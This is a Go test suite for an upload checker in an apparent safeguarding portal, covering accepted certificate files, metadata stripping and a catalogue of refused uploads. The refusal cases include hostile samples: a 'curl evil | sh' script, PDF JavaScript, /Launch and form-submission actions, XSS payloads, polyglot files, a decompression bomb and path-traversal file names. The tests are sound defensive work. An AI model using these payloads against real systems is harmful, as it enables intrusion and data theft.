package evidence_test

import (
	"bytes"
	"crypto/rand"
	"errors"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"
	"time"

	"github.com/department/safeguarding-portal/internal/evidence"
)

const limit = 10 << 20

// Messages the uploader sees, spelled out so a change to one is a decision.
const (
	msgKind      = "The selected file must be a PDF, PNG or JPEG"
	msgDamaged   = "The selected file is not a complete PDF. It may be damaged or only partly downloaded. Save it again as a PDF and upload the new copy"
	msgComplex   = "The selected file is too complex to check. Save it as a plain PDF or take a photo of the certificate"
	msgEncrypted = "The selected file is password protected. Remove the password, save it as a PDF and upload it again"
	msgImage     = "The selected image could not be read. It may be damaged or only partly saved. Save it again or take a new photo"
	msgPixels    = "The selected image must be smaller than 50 megapixels. Save it at a lower resolution and upload it again"
	msgWebPage   = "The selected file contains hidden content (a web page) and cannot be accepted. Save it again as a PDF, PNG or JPEG"
	msgArchive   = "The selected file contains hidden content (a compressed folder) and cannot be accepted. Save it again as a PDF, PNG or JPEG"
	msgJS        = "The selected file contains active content (JavaScript) and cannot be accepted. Save it as a plain PDF or take a photo of the certificate"
)

func active(what string) string {
	return "The selected file contains active content (" + what + ") and cannot be accepted. Save it as a plain PDF or take a photo of the certificate"
}

func TestCheckAccepts(t *testing.T) {
	for name, tc := range map[string]struct {
		name string
		data []byte
		want string
	}{
		"plain PDF":                         {"certificate.pdf", certificatePDF(), evidence.PDF},
		"PDF with a verification link":      {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.org/verify/123) >> >>"), evidence.PDF},
		"PDF 1.5 with object streams":       {"c.pdf", objStmPDF(pdfCatalog, false), evidence.PDF},
		"object stream with a predictor":    {"c.pdf", objStmPDF(pdfCatalog, true), evidence.PDF},
		"PDF with trailing newlines":        {"c.pdf", append(certificatePDF(), "\r\n\n"...), evidence.PDF},
		"opens at page 1 (TCPDF, LaTeX)":    {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /FitH null] >>"), evidence.PDF},
		"opens at a page by reference":      {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", "[3 0 R /XYZ null null 1]"), evidence.PDF},
		"opens with GoTo (LaTeX hyperref)":  {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", "<< /S /GoTo /D [3 0 R /Fit] >>"), evidence.PDF},
		"opens with GoTo, inline":           {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>"), evidence.PDF},
		"opens at a page, in object stream": {"c.pdf", objStmPDF("<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", true), evidence.PDF},
		"PNG":                               {"photo.png", pngFile(t), evidence.PNG},
		"JPEG":                              {"photo.jpg", jpegFile(t), evidence.JPEG},
		"JPEG with a motion photo's video":  {"photo.jpg", cat(jpegFile(t), []byte("\x00\x00\x00\x18ftypmp42 video data")), evidence.JPEG},
		"tag-like bytes by chance":          {"photo.jpg", cat(jpegFile(t), []byte("\x00\x00\x00\x18ftypmp42 \x91<SVg\x07<htmlQ<script")), evidence.JPEG},
		"name says PNG, content is a PDF":   {"scan.png", certificatePDF(), evidence.PDF},
		"name says PDF, content is a JPEG":  {"scan.pdf", jpegFile(t), evidence.JPEG},
	} {
		t.Run(name, func(t *testing.T) {
			stored, ct, err := evidence.Check(tc.name, tc.data, limit)
			if err != nil {
				t.Fatalf("Check: %v", err)
			}
			if ct != tc.want {
				t.Errorf("content type %q, want %q", ct, tc.want)
			}
			if len(stored) == 0 {
				t.Error("nothing to store")
			}
		})
	}
}

// TestCheckRefuses is the catalogue of hostile and broken uploads.
func TestCheckRefuses(t *testing.T) {
	pdf := certificatePDF()
	png := pngFile(t)
	jpg := jpegFile(t)
	bomb := pdfStream("/Filter /FlateDecode", deflate(make([]byte, 60<<20)))
	deep := "<< /Type /Catalog /Pages 2 0 R /X " + repeat("[", 200) + repeat("]", 200) + " >>"
	imageWithObject := pdfStream("/Type /XObject /Subtype /Image /Width 4 /Height 4 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode",
		[]byte("\xff\xd8 random 9 0 obj << /AA << /O 10 0 R >> >> endobj \xff\xd9"))
	// Go's decoder visits every block in every scan: a JPEG of many
	// near-empty scans costs minutes to decode.
	manyScans := func() []byte {
		sos := bytes.Index(jpg, []byte{0xFF, 0xDA})
		scan := jpg[sos : len(jpg)-2]
		return cat(jpg[:sos], bytes.Repeat(scan, 101), []byte{0xFF, 0xD9})
	}()
	corruptIDAT := func() []byte {
		p := append([]byte{}, png...)
		i := bytes.Index(p, []byte("IDAT"))
		p[i+10] ^= 0xFF
		n := int(p[i-1]) | int(p[i-2])<<8
		data := p[i+4 : i+4+n]
		chunk := pngChunk("IDAT", data)
		copy(p[i-4:], chunk)
		return p
	}()

	for name, tc := range map[string]struct {
		name string
		data []byte
		want string
	}{
		// Size.
		"empty":         {"c.pdf", nil, "The selected file is empty"},
		"over the size": {"c.pdf", append(pdf, make([]byte, limit)...), "The selected file must be smaller than 10 MB"},

		// Not a PDF, PNG or JPEG, whatever the name says.
		"ELF program named .pdf":      {"c.pdf", cat([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)), msgKind},
		"Windows program named .pdf":  {"c.pdf", cat([]byte("MZ\x90\x00"), make([]byte, 64)), msgKind},
		"Mach-O program named .pdf":   {"c.pdf", cat([]byte("\xcf\xfa\xed\xfe"), make([]byte, 64)), msgKind},
		"shell script named .pdf":     {"c.pdf", []byte("#!/bin/sh\ncurl evil | sh\n"), msgKind},
		"HTML named .pdf":             {"c.pdf", []byte("<!DOCTYPE html><html><body>hi</body></html>"), msgKind},
		"SVG named .png":              {"c.png", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), msgKind},
		"SVG with an XML prolog":      {"c.png", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), msgKind},
		"ZIP named .pdf":              {"c.pdf", zipFile(t, "a.txt", "hello"), msgKind},
		"Word document (docx)":        {"c.docx", zipFile(t, "word/document.xml", "<w:document/>"), msgKind},
		"Word 97 document (OLE)":      {"c.doc", cat([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 512)), msgKind},
		"GIF":                         {"c.gif", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), msgKind},
		"WebP":                        {"c.webp", []byte("RIFF\x1a\x00\x00\x00WEBPVP8 "), msgKind},
		"TIFF":                        {"c.tif", []byte("II*\x00\x08\x00\x00\x00"), msgKind},
		"BMP":                         {"c.bmp", []byte("BM\x1e\x00\x00\x00"), msgKind},
		"text":                        {"c.pdf", []byte("Certificate of completion"), msgKind},
		"PDF header not at offset 0":  {"c.pdf", cat([]byte("<html><!--"), pdf), msgDamaged},
		"PDF after a byte-order mark": {"c.pdf", cat([]byte("\xef\xbb\xbf"), pdf), msgDamaged},

		// Active content in a PDF.
		"JavaScript on opening":        {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", "<< /S /JavaScript /JS (app.alert(1)) >>"), msgJS},
		"a web address on opening":     {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", "<< /S /URI /URI (https://tracker.example/seen) >>"), active("an action that runs when it is opened")},
		"an action on opening":         {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Named /N /Print >> >>"), active("an action that runs when it is opened")},
		"an unknown object on opening": {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /OpenAction 99 0 R >>"), active("an action that runs when it is opened")},
		"GoTo then a web address":      {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://tracker.example/) >> >> >>"), active("an action that runs when it is opened")},
		"on opening, defined twice":    {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", "[3 0 R /Fit]\nendobj\n6 0 obj\n<< /S /URI /URI (https://tracker.example/) >>"), active("an action that runs when it is opened")},
		"JavaScript in the names tree": {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 6 0 R >> >>", "<< /Names [(a) 7 0 R] >>"), msgJS},
		"/JS alone":                    {"c.pdf", certificatePDFWith(pdfCatalog, "<< /JS (app.alert(1)) >>"), msgJS},
		"hex-escaped /J#61vaScript":    {"c.pdf", certificatePDFWith(pdfCatalog, "<< /S /J#61vaScript >>"), msgJS},
		"hex-escaped /#4A#53":          {"c.pdf", certificatePDFWith(pdfCatalog, "<< /#4A#53 (app.alert(1)) >>"), msgJS},
		"additional actions /AA":       {"c.pdf", certificatePDFWith(pdfCatalog, "<< /Type /Annot /AA << /E 7 0 R >> >>"), active("actions that run automatically")},
		"/Launch":                      {"c.pdf", certificatePDFWith(pdfCatalog, "<< /S /Launch /F (cmd.exe) >>"), active("a command that starts another program")},
		"/EmbeddedFiles":               {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>", "<< /Names [] >>"), active("attached files")},
		"/EmbeddedFile stream":         {"c.pdf", certificatePDFWith(pdfCatalog, pdfStream("/Type /EmbeddedFile", []byte("MZ payload"))), active("an attached file")},
		"/RichMedia":                   {"c.pdf", certificatePDFWith(pdfCatalog, "<< /Type /Annot /Subtype /RichMedia >>"), active("embedded media")},
		"/XFA form":                    {"c.pdf", certificatePDFWith("<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> >>", "<< >>"), active("a dynamic XFA form")},
		"/SubmitForm":                  {"c.pdf", certificatePDFWith(pdfCatalog, "<< /S /SubmitForm /F (https://evil.example/) >>"), active("a form that sends data")},
		"/ImportData":                  {"c.pdf", certificatePDFWith(pdfCatalog, "<< /S /ImportData /F (data.fdf) >>"), active("a form that loads data")},
		"/GoToR to a network share":    {"c.pdf", certificatePDFWith(pdfCatalog, `<< /S /GoToR /F (\\\\evil\\share\\x.pdf) >>`), active("a link that opens another file")},

		// Active content hidden from a reader of the raw file.
		"JavaScript in a Flate object stream":        {"c.pdf", objStmPDF("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", false), active("an action that runs when it is opened")},
		"JavaScript in an object stream (predictor)": {"c.pdf", objStmPDF("<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(7\\)) >>] >> >> >>", true), msgJS},
		"object stream in a filter it cannot read":   {"c.pdf", certificatePDFWith(pdfCatalog, pdfStream("/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", []byte("\x80\x0b\x60\x50"))), msgComplex},
		"object stream with an indirect filter":      {"c.pdf", certificatePDFWith(pdfCatalog, pdfStream("/N 1 /First 4 /Filter 9 0 R", []byte("x"))), msgComplex},
		"object stream with broken compression":      {"c.pdf", certificatePDFWith(pdfCatalog, pdfStream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", []byte("\x78\x9c garbage"))), msgDamaged},
		"object hidden in image data":                {"c.pdf", certificatePDFWith(pdfCatalog, imageWithObject), active("actions that run automatically")},
		"object hidden after an unbalanced string":   {"c.pdf", certificatePDFWith(pdfCatalog, "<< /Title (unclosed >>\nendobj\n9 0 obj\n<< /AA << >> ) >>"), active("actions that run automatically")},
		"JavaScript in a stream with no dictionary":  {"c.pdf", cat(pdf[:len(pdf)-6], []byte("\nstream\n"), deflate([]byte("<< /S /JavaScript >>")), []byte("\nendstream\n%%EOF\n")), msgJS},
		"JavaScript in ASCII85 then Flate":           {"c.pdf", certificatePDFWith(pdfCatalog, pdfStream("/Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]", a85(deflate([]byte("9 0 << /S /JavaScript >>"))))), msgJS},
		"Flate bomb":                                 {"c.pdf", certificatePDFWith(pdfCatalog, bomb), msgComplex},
		"dictionaries nested without end":            {"c.pdf", certificatePDFWith(deep), msgComplex},
		"encrypted":                                  {"c.pdf", pdfFile("/Encrypt 6 0 R ", pdfCatalog, pdfPages, pdfPage, pdfStream("", []byte(pdfText)), pdfFont, "<< /Filter /Standard /V 2 /R 3 >>"), msgEncrypted},
		"encryption hidden in image data":            {"c.pdf", certificatePDFWith(pdfCatalog, pdfStream("/Subtype /Image /Width 1 /Height 1", []byte("trailer << /Encrypt 9 0 R >>"))), msgEncrypted},

		// Damaged PDFs.
		"truncated PDF":              {"c.pdf", pdf[:len(pdf)/2], msgDamaged},
		"%%EOF too far from the end": {"c.pdf", cat(pdf, bytes.Repeat([]byte(" "), 2000)), msgDamaged},
		"junk after %%EOF":           {"c.pdf", cat(pdf, []byte("MZ\x90 whatever")), msgDamaged},
		"stream with no endstream":   {"c.pdf", cat([]byte("%PDF-1.4\n1 0 obj << >>\nstream\n"), make([]byte, 20), []byte("\n%%EOF\n")), msgDamaged},

		// Polyglots: one file that is also another.
		"PDF with HTML script":       {"c.pdf", certificatePDFWith(pdfCatalog, "<< /Note (<script>alert(document.cookie)</script>) >>"), msgWebPage},
		"PDF with a ZIP appended":    {"c.pdf", cat(pdf, zipFile(t, "evil.jar", "class")), msgArchive},
		"PNG with a ZIP appended":    {"c.png", cat(png, zipFile(t, "evil.class", "cafebabe")), msgArchive},
		"JPEG with a JAR (GIFAR)":    {"c.jpg", cat(jpg, zipFile(t, "META-INF/MANIFEST.MF", "Main-Class: X")), msgArchive},
		"JPEG with HTML appended":    {"c.jpg", cat(jpg, []byte("<html><script>alert(1)</script>")), msgWebPage},
		"PNG with HTML in a chunk":   {"c.png", withPNGChunk(png, "tEXt", []byte("Comment\x00<SCRIPT>alert(1)</SCRIPT>")), msgWebPage},
		"PNG with data after IEND":   {"c.png", cat(png, []byte("payload")), "The selected file contains hidden content (data after the end of the image) and cannot be accepted. Save it again as a PDF, PNG or JPEG"},
		"JPEG with SVG in a comment": {"c.jpg", cat(jpg[:2], []byte("\xff\xfe\x00\x10<svg onload=x>"), jpg[2:]), msgWebPage},
		"PDF with a slash-ended tag": {"c.pdf", certificatePDFWith(pdfCatalog, "<< /Note (<svg/onload=alert(1)>) >>"), msgWebPage},

		// Images that do not decode.
		"truncated PNG":               {"c.png", png[:len(png)-20], msgImage},
		"PNG with corrupt pixels":     {"c.png", corruptIDAT, msgImage},
		"truncated JPEG":              {"c.jpg", jpg[:len(jpg)/2], msgImage},
		"PNG signature only":          {"c.png", []byte("\x89PNG\r\n\x1a\n"), msgImage},
		"JPEG signature only":         {"c.jpg", []byte{0xFF, 0xD8, 0xFF}, msgImage},
		"JPEG with hundreds of scans": {"c.jpg", manyScans, msgComplex},
	} {
		t.Run(name, func(t *testing.T) {
			stored, ct, err := evidence.Check(tc.name, tc.data, limit)
			var r *evidence.Refusal
			if !errors.As(err, &r) {
				t.Fatalf("Check = %d bytes %q, %v; want a refusal %q", len(stored), ct, err, tc.want)
			}
			if r.Message != tc.want {
				t.Errorf("refusal %q\nwant      %q", r.Message, tc.want)
			}
			if stored != nil || ct != "" {
				t.Errorf("refused but returned %d bytes %q", len(stored), ct)
			}
		})
	}
}

// TestCheckShortNamesInImageData: the two-letter names /JS and /AA occur by
// chance in about one 2 MB photo in a hundred; inside image data they act on
// nothing, so a scanned certificate is not refused for them.
func TestCheckShortNamesInImageData(t *testing.T) {
	data := make([]byte, 256<<10)
	_, _ = rand.Read(data)
	// Random bytes can spell an archive record ("PK" then 3 4 or 5 6) or,
	// rarely, a tag such as "<svg ", each refused for its own reason: break
	// every "PK" and "<" so only the names count.
	for i := range len(data) - 1 {
		if data[i] == 'P' && data[i+1] == 'K' {
			data[i] = 'Q'
		}
		if data[i] == '<' {
			data[i] = '='
		}
	}
	copy(data[1000:], "/JS (")
	copy(data[5000:], "/AA<<")
	img := pdfStream("/Type /XObject /Subtype /Image /Width 512 /Height 512 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode", data)
	pdf := certificatePDFWith(pdfCatalog, img)
	if _, _, err := evidence.Check("scan.pdf", pdf, limit); err != nil {
		t.Fatalf("Check: %v", err)
	}
}

func TestCheckPixelFloodIsQuick(t *testing.T) {
	for name, data := range map[string][]byte{
		"PNG 65535×65535":  pixelFloodPNG(65535, 65535),
		"PNG 10000×5001":   pixelFloodPNG(10000, 5001),
		"JPEG 65535×65535": pixelFloodJPEG(t, 65535, 65535),
	} {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			_, _, err := evidence.Check("flood.img", data, limit)
			if took := time.Since(start); took > 100*time.Millisecond {
				t.Errorf("took %v: the image was decoded", took)
			}
			var r *evidence.Refusal
			if !errors.As(err, &r) || r.Message != msgPixels {
				t.Fatalf("err = %v, want %q", err, msgPixels)
			}
		})
	}
}

func TestCheckRedrawsPNG(t *testing.T) {
	in := withPNGChunk(pngFile(t), "eXIf", exifSegment(1)[10:])
	in = withPNGChunk(in, "tEXt", []byte("Location\x00GPS 51.5007N 0.1246W"))
	stored, ct, err := evidence.Check("photo.png", in, limit)
	if err != nil || ct != evidence.PNG {
		t.Fatalf("Check = %q, %v", ct, err)
	}
	if bytes.Equal(stored, in) {
		t.Error("stored bytes are the upload; want a redrawn copy")
	}
	for _, s := range []string{"eXIf", "tEXt", "GPS"} {
		if bytes.Contains(stored, []byte(s)) {
			t.Errorf("stored copy still holds %q", s)
		}
	}
	a, _ := png.Decode(bytes.NewReader(in))
	b, err := png.Decode(bytes.NewReader(stored))
	if err != nil {
		t.Fatal(err)
	}
	if a.Bounds() != b.Bounds() {
		t.Fatalf("bounds %v, want %v", b.Bounds(), a.Bounds())
	}
	for y := 0; y < a.Bounds().Dy(); y++ {
		for x := 0; x < a.Bounds().Dx(); x++ {
			r1, g1, b1, a1 := a.At(x, y).RGBA()
			r2, g2, b2, a2 := b.At(x, y).RGBA()
			if r1 != r2 || g1 != g2 || b1 != b2 || a1 != a2 {
				t.Fatalf("pixel %d,%d changed", x, y)
			}
		}
	}
}

func TestCheckRedrawsJPEGWithoutEXIF(t *testing.T) {
	in := withEXIF(jpegFile(t), 1)
	stored, ct, err := evidence.Check("photo.jpg", in, limit)
	if err != nil || ct != evidence.JPEG {
		t.Fatalf("Check = %q, %v", ct, err)
	}
	if bytes.Equal(stored, in) {
		t.Error("stored bytes are the upload; want a redrawn copy")
	}
	for _, s := range []string{"Exif", "GPS", "\xff\xe1"} {
		if bytes.Contains(stored, []byte(s)) {
			t.Errorf("stored copy still holds %q", s)
		}
	}
	if _, err := jpeg.Decode(bytes.NewReader(stored)); err != nil {
		t.Fatalf("stored copy does not decode: %v", err)
	}
}

// TestCheckTurnsPhotos: the EXIF orientation is dropped with the rest of the
// metadata, so the pixels are turned the way it said.
func TestCheckTurnsPhotos(t *testing.T) {
	red := func(c color.Color) bool { r, _, b, _ := c.RGBA(); return r > b }
	for o, want := range map[uint16]struct {
		w, h          int
		redAt, blueAt image.Point
	}{
		1: {32, 16, image.Pt(4, 8), image.Pt(28, 8)},
		3: {32, 16, image.Pt(28, 8), image.Pt(4, 8)}, // turned half way: red on the right
		6: {16, 32, image.Pt(8, 4), image.Pt(8, 28)}, // turned clockwise: left side on top
		8: {16, 32, image.Pt(8, 28), image.Pt(8, 4)}, // turned anticlockwise: left side at the bottom
		2: {32, 16, image.Pt(28, 8), image.Pt(4, 8)}, // mirrored
		5: {16, 32, image.Pt(8, 4), image.Pt(8, 28)}, // transposed
	} {
		stored, _, err := evidence.Check("photo.jpg", withEXIF(jpegFile(t), o), limit)
		if err != nil {
			t.Fatalf("orientation %d: %v", o, err)
		}
		img, err := jpeg.Decode(bytes.NewReader(stored))
		if err != nil {
			t.Fatal(err)
		}
		if got := img.Bounds().Size(); got != image.Pt(want.w, want.h) {
			t.Errorf("orientation %d: size %v, want %dx%d", o, got, want.w, want.h)
			continue
		}
		if !red(img.At(want.redAt.X, want.redAt.Y)) || red(img.At(want.blueAt.X, want.blueAt.Y)) {
			t.Errorf("orientation %d: colours not where expected", o)
		}
	}
}

// TestCheckIsIdempotent: what Check stores passes Check again as the same
// kind, so a file re-checked later (a migration, a re-scan) is not refused.
func TestCheckIsIdempotent(t *testing.T) {
	for _, in := range [][]byte{certificatePDF(), objStmPDF(pdfCatalog, true), pngFile(t), withEXIF(jpegFile(t), 6)} {
		stored, ct, err := evidence.Check("f", in, limit)
		if err != nil {
			t.Fatal(err)
		}
		again, ct2, err := evidence.Check("f", stored, limit)
		if err != nil || ct2 != ct {
			t.Fatalf("re-check = %q, %v; want %q", ct2, err, ct)
		}
		if ct == evidence.PNG && !bytes.Equal(again, stored) {
			t.Error("PNG redrawn twice differs")
		}
	}
}

func TestCheckMaxBytes(t *testing.T) {
	pdf := certificatePDF()
	if _, _, err := evidence.Check("c.pdf", pdf, int64(len(pdf))); err != nil {
		t.Errorf("file exactly at the limit: %v", err)
	}
	_, _, err := evidence.Check("c.pdf", pdf, int64(len(pdf)-1))
	if err == nil || !strings.HasPrefix(err.Error(), "The selected file must be smaller than ") {
		t.Errorf("one byte over: %v", err)
	}
	_, _, err = evidence.Check("c.pdf", make([]byte, evidence.DefaultMaxBytes+1), 0)
	if err == nil || err.Error() != "The selected file must be smaller than 10 MB" {
		t.Errorf("no limit given means the default: %v", err)
	}
}

func TestDisplayName(t *testing.T) {
	const (
		separator = "The file name must not contain /, \\ or :. Rename the file and upload it again"
		control   = "The file name must not contain line breaks, tabs or other hidden control characters. Rename the file and upload it again"
		hidden    = "The file name contains hidden right-to-left or formatting characters. Rename the file by typing the name again"
		dot       = "The file name must not start with a full stop. Rename the file and upload it again"
		device    = "The file name must not be a name Windows reserves for devices, such as CON, PRN, AUX, NUL, COM1 or LPT1. Rename the file and upload it again"
		empty     = "The file name must not be empty. Rename the file and upload it again"
		long      = "The file name must be 255 characters or fewer. Rename the file and upload it again"
		unread    = "The file name contains characters that could not be read. Rename the file and upload it again"
	)
	for in, want := range map[string]string{
		// Bad inputs 30 and 31.
		"training\u202Efdp.exe": hidden,
		"../../etc/passwd":      separator,
		`C:\boot.ini`:           separator,
		"CON":                   device,
		"a.pdf\x00.html":        control,
		repeat("a", 1024):       long,
		// The rest of the rules.
		"..":                       dot,
		".":                        dot,
		".htaccess":                dot,
		"dir/cert.pdf":             separator,
		`dir\cert.pdf`:             separator,
		"cert.pdf:Zone.Identifier": separator,
		"cert\tpdf":                control,
		"cert\npdf":                control,
		"cert\x7f.pdf":             control,
		"cert\u0085.pdf":           control,
		"cert\u009b.pdf":           control,
		"cert\u2028.pdf":           control,
		"\u200Etraining.pdf":       hidden,
		"training\u200F.pdf":       hidden,
		"a\u202A.pdf":              hidden,
		"a\u202D.pdf":              hidden,
		"a\u2066.pdf":              hidden,
		"a\u2069.pdf":              hidden,
		"a\u200Bb.pdf":             hidden,
		"   ":                      empty,
		"":                         empty,
		repeat("é", 128):           long, // 256 bytes
		"\xff\xfe.pdf":             unread,
		"con.pdf":                  device,
		"NUL.txt.pdf":              device,
		"nul .pdf":                 device,
		"Aux":                      device,
		"PRN.jpg":                  device,
		"COM1.pdf":                 device,
		"com9":                     device,
		"LPT1.png":                 device,
		"lpt9.pdf":                 device,
		"COM¹.pdf":                 device,
	} {
		_, err := evidence.DisplayName(in)
		var r *evidence.Refusal
		if !errors.As(err, &r) || r.Message != want {
			t.Errorf("DisplayName(%q) = %v\nwant %q", in, err, want)
		}
		if _, _, err := evidence.Check(in, certificatePDF(), limit); err == nil || err.Error() != want {
			t.Errorf("Check(%q) = %v; want the name refused", in, err)
		}
	}
	for in, want := range map[string]string{
		"certificate.pdf":             "certificate.pdf",
		"  DBS certificate.pdf  ":     "DBS certificate.pdf",
		"Zoë O'Brien – L2 (2025).PDF": "Zoë O'Brien – L2 (2025).PDF",
		"شهادة.pdf":                   "شهادة.pdf",
		"no extension":                "no extension",
		"a..b.pdf":                    "a..b.pdf",
		"CONFIRMATION.pdf":            "CONFIRMATION.pdf",
		"COM10.pdf":                   "COM10.pdf",
		"console.pdf":                 "console.pdf",
		repeat("a", 251) + ".pdf":     repeat("a", 251) + ".pdf",
		"\u00a0cert.pdf\u3000":        "cert.pdf",
	} {
		got, err := evidence.DisplayName(in)
		if err != nil || got != want {
			t.Errorf("DisplayName(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
}
